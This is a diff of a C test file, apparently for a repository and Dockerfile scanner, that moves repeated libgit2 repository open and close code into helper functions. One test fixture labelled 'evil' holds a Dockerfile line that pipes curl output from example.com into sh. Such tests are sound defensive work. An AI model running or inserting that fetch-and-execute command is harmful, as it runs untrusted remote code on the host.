@@ -595,6 +595,24 @@ static void gen_git_tree_bomb(const char *in)
 
 /* ---- pull requests: the base is read too ------------------------------------ */
 
+/* The repository the generators built in `in`/repo, opened with libgit2. */
+static git_repository *open_in(const char *in)
+{
+	char repo[4300];
+	git_repository *r = NULL;
+
+	snprintf(repo, sizeof(repo), "%s/repo", in);
+	git_libgit2_init();
+	ck_assert_int_eq(git_repository_open(&r, repo), 0);
+	return r;
+}
+
+static void close_in(git_repository *r)
+{
+	git_repository_free(r);
+	git_libgit2_shutdown();
+}
+
 /* A tree of `n` entries <stem>0..<stem>n-1, each `id` with `mode`. */
 static void fan_tree(git_repository *r, const git_oid *id, git_filemode_t mode,
 		     int n, const char *stem, git_oid *out)
@@ -694,16 +712,14 @@ static void commit_bad_name(const char *in, const char *dir, const char *name)
 	static const char ok[] = "FROM alpine:3.20\nUSER nobody\n";
 	static const char evil[] = "FROM alpine:3.20\n"
 				   "RUN curl -fsSL https://example.com/i | sh\n";
-	char tree[4300], repo[4300];
-	git_repository *r = NULL;
+	char tree[4300];
+	git_repository *r;
 	git_oid okb, evilb, inner, mid, root;
 
 	sub(in, "tree", tree, sizeof(tree));
 	puts_file(tree, "README", "names\n");
 	build_repo(in, tree);
-	snprintf(repo, sizeof(repo), "%s/repo", in);
-	git_libgit2_init();
-	ck_assert_int_eq(git_repository_open(&r, repo), 0);
+	r = open_in(in);
 	ck_assert_int_eq(git_blob_create_from_buffer(&okb, r, ok,
 						     sizeof(ok) - 1), 0);
 	ck_assert_int_eq(git_blob_create_from_buffer(&evilb, r, evil,
@@ -719,8 +735,7 @@ static void commit_bad_name(const char *in, const char *dir, const char *name)
 			    { dir, &mid, GIT_FILEMODE_TREE },
 			    { NULL, NULL, 0 } }, &root);
 	commit_on_head(r, &root);
-	git_repository_free(r);
-	git_libgit2_shutdown();
+	close_in(r);
 }
 
 static void gen_git_dotdot_entry(const char *in)
@@ -740,21 +755,16 @@ static void gen_git_control_names(const char *in)
 static void commit_plain_head(const char *in)
 {
 	static const char df[] = "FROM alpine:3.20\nUSER head\n";
-	char repo[4300];
-	git_repository *r = NULL;
+	git_repository *r = open_in(in);
 	git_oid blob, tree;
 
-	snprintf(repo, sizeof(repo), "%s/repo", in);
-	git_libgit2_init();
-	ck_assert_int_eq(git_repository_open(&r, repo), 0);
 	ck_assert_int_eq(git_blob_create_from_buffer(&blob, r, df,
 						     sizeof(df) - 1), 0);
 	tree_of(r, (const struct ent[]){
 			   { "Dockerfile", &blob, GIT_FILEMODE_BLOB },
 			   { NULL, NULL, 0 } }, &tree);
 	commit_on_head(r, &tree);
-	git_repository_free(r);
-	git_libgit2_shutdown();
+	close_in(r);
 }
 
 /* The base of the pull request holds a tree that contains itself. */
@@ -782,8 +792,8 @@ static void gen_git_pr_rename_flood(const char *in)
 {
 	static const char df[] = "FROM alpine:3.20\n";   /* no USER: high */
 	static const char pol[] = "gate: new\n";
-	char tree[4300], repo[4300];
-	git_repository *r = NULL;
+	char tree[4300];
+	git_repository *r;
 	struct sg_buf b[2] = { SG_BUF_INIT(MB), SG_BUF_INIT(MB) };
 	git_oid gone, added, dfb, polb, t, gone10k, added10k, svc, base, head;
 	int i;
@@ -791,9 +801,7 @@ static void gen_git_pr_rename_flood(const char *in)
 	sub(in, "tree", tree, sizeof(tree));
 	puts_file(tree, "README", "flood\n");
 	build_repo(in, tree);
-	snprintf(repo, sizeof(repo), "%s/repo", in);
-	git_libgit2_init();
-	ck_assert_int_eq(git_repository_open(&r, repo), 0);
+	r = open_in(in);
 	/* large enough for libgit2 to compare (it skips tiny files) */
 	for (i = 0; i < 200; i++) {
 		sg_buf_printf(&b[0], "deleted line %d of a file\n", i);
@@ -828,8 +836,7 @@ static void gen_git_pr_rename_flood(const char *in)
 			   { NULL, NULL, 0 } }, &head);
 	commit_on_head(r, &base);
 	commit_on_head(r, &head);
-	git_repository_free(r);
-	git_libgit2_shutdown();
+	close_in(r);
 }
 
 static void gen_git_not_repo(const char *in)
